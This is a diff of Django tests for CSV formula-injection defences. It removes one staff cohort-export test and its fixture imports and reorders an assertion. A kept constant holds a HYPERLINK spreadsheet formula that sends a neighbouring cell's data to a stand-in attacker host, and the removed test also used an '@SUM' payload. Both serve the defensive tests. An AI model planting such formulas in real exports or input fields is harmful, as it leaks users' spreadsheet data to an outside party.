@@ -8,13 +8,6 @@ from django.urls import reverse
 from wagtail.models import Page
 
 from home.csv_export import SafeCsvWriter, csv_safe_cell
-from tests.accounts.conftest import (  # noqa: F401
-    centre_a,
-    cohort_a,
-    courses,
-    staff_a,
-    staff_client,
-)
 from tests.factories import UserFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"klik")'
@@ -54,26 +47,6 @@ def test_a_separator_inside_a_cell_cannot_start_a_new_cell():
 
 
 @pytest.mark.django_db
-def test_staff_cohort_export_writes_a_formula_name_as_text(staff_client, cohort_a):
-    UserFactory(
-        username="penyusup",
-        display_name=HYPERLINK,
-        legal_name="@SUM(1+1)",
-        centre=cohort_a.centre,
-        cohort=cohort_a,
-    )
-    response = staff_client.get(reverse("centres:cohort_export", args=[cohort_a.pk]))
-    assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    learner = next(row for row in rows if "HYPERLINK" in row[0])
-    assert learner[0] == f"'{HYPERLINK}"
-    assert learner[1] == "'@SUM(1+1)"
-    assert not any(
-        cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row
-    )
-
-
-@pytest.mark.django_db
 def test_wagtail_report_exports_write_a_formula_title_as_text(client, site_root):
     admin = UserFactory(username="admin-csv", is_superuser=True, is_staff=True)
     page = site_root.get_children().first().specific
@@ -88,5 +61,5 @@ def test_wagtail_report_exports_write_a_formula_title_as_text(client, site_root)
     assert response.status_code == 200
     content = b"".join(response.streaming_content).decode()
     rows = list(csv.reader(io.StringIO(content)))
-    assert ["'=1+2"] == [cell for row in rows for cell in row if "1+2" in cell]
+    assert [cell for row in rows for cell in row if "1+2" in cell] == ["'=1+2"]
     assert Page.objects.get(pk=page.pk).title == "=1+2"
